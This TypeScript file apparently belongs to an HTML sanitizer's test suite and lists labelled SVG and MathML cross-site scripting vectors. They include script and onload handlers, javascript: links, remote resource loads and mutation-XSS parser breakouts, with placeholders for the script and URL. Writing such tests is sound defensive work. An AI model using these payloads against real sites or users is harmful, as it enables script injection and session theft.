import { base64, type Vector } from "./vector";

const NS = `xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"`;

/** SVG and MathML, and text that means one thing within them and another one outside. */
export const FOREIGN: Vector[] = [
  ["an SVG script", `<svg><script>{run}</script></svg><p>Hi</p>`],
  ["an SVG script from elsewhere", `<svg><script href="{url}" xlink:href="{url}"/></svg><p>Hi</p>`],
  ["an SVG script with its text in CDATA", `<svg><script><![CDATA[{run}]]></script></svg><p>Hi</p>`],
  ["an SVG script in entities", `<svg><script>&#97;lert(top.ran={n})</script></svg><p>Hi</p>`],
  ["an SVG that runs when it loads", `<svg onload="{run}"></svg><p>Hi</p>`],
  ["an SVG without spaces", `<svg/onload={run}>Hi`],
  [
    "an SVG with a prefix",
    `<x:svg xmlns:x="http://www.w3.org/2000/svg" onload="{run}"><x:script>{run}</x:script></x:svg><p>Hi</p>`,
  ],
  ["an SVG picture element", `<svg ${NS}><image href="{url}" xlink:href="{url}"/></svg><p>Hi</p>`],
  ["an SVG use", `<svg ${NS}><use href="{url}#a" xlink:href="{url}#a"/></svg><p>Hi</p>`],
  [
    "an SVG use of data",
    ({ run }) =>
      `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="a" ${NS}><image href="x" onerror="${run}"/></svg>`)}#a"/></svg><p>Hi</p>`,
  ],
  [
    "an SVG filter with a picture",
    `<svg width="9" height="9"><filter id="f"><feImage href="{url}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>Hi`,
  ],
  [
    "an SVG fill from elsewhere",
    `<svg><rect width="9" height="9" fill="url({url}#a)" style="mask:url({url}#m)"/></svg>Hi`,
  ],
  ["an SVG style", `<svg><style>@import "{url}";</style><rect/></svg><p>Hi</p>`],
  ["an SVG animation that runs", `<svg><animate onbegin="{run}" attributeName="x" dur="1s"/></svg><p>Hi</p>`],
  [
    "an SVG animation of a link",
    `<svg><a><animate attributeName="href" values="javascript:{run}"/><text>Hi</text></a></svg>`,
  ],
  ["an SVG that sets a handler", `<svg><rect><set attributeName="onmouseover" to="{run}"/></rect></svg><p>Hi</p>`],
  ["an SVG that sets a picture", `<svg><image><set attributeName="href" to="{url}"/></image></svg><p>Hi</p>`],
  ["an SVG link", `<svg ${NS}><a xlink:href="javascript:{run}"><text y="9">Hi</text></a></svg>`],
  [
    "HTML in an SVG",
    `<svg><foreignObject><iframe src="{url}"></iframe><img src="cid:a" onerror="{run}"></foreignObject></svg>Hi`,
  ],
  [
    "an SVG handler of XML events",
    `<svg><handler type="text/javascript" ev:event="load">{run}</handler></svg><p>Hi</p>`,
  ],
  ["an SVG that hides a title", `<svg><title><p title="</title><img src=cid:a onerror={run}>">Hi`],
  ["an SVG that is left by a paragraph", `<svg></p><style><a id="</style><img src=cid:a onerror={run}>">Hi`],
  ["an SVG whose style is text elsewhere", `<svg><style>&lt;img src=cid:a onerror={run}&gt;</style></svg><p>Hi</p>`],
  [
    "an SVG with a comment in a style",
    `<svg><style><!--</style><img title="--><img src=cid:a onerror={run}>"></svg>Hi`,
  ],
  ["an SVG with CDATA in a description", `<svg><desc><![CDATA[</desc><img src=cid:a onerror={run}>]]></desc></svg>Hi`],
  ["an SVG in a table", `<table><svg><td><style><a title="</style><img src=cid:a onerror={run}>"></table>Hi`],
  ["an SVG in a noscript", `<svg><noscript><img src="cid:a" onerror="{run}"></noscript></svg><p>Hi</p>`],
  [
    "a MathML trick",
    `<math><mtext><table><mglyph><style><img src=cid:a onerror={run}></style></mglyph></table></mtext></math>Hi`,
  ],
  [
    "a MathML trick with a comment",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=cid:a onerror={run}&gt;">`,
  ],
  [
    "a MathML trick with forms",
    `<form><math><mtext></form><form><mglyph><style></math><img src=cid:a onerror={run}>Hi`,
  ],
  [
    "a MathML trick with annotations",
    `<math><annotation-xml encoding="text/html"><svg onload="{run}"></svg></annotation-xml></math><p>Hi</p>`,
  ],
  [
    "a MathML trick with a malignmark",
    `<math><mi><malignmark><style><a title="</style><img src=cid:a onerror={run}>"></mi></math>Hi`,
  ],
  ["a MathML link", `<math href="javascript:{run}"><mi>Hi</mi></math>`],
  [
    "a MathML action",
    `<math><maction actiontype="statusline#http://{host}" xlink:href="javascript:{run}">Hi</maction></math>`,
  ],
  [
    "a MathML source",
    `<math><mglyph src="{url}" altimg="{url}"/><semantics definitionURL="{url}"></semantics></math><p>Hi</p>`,
  ],
];
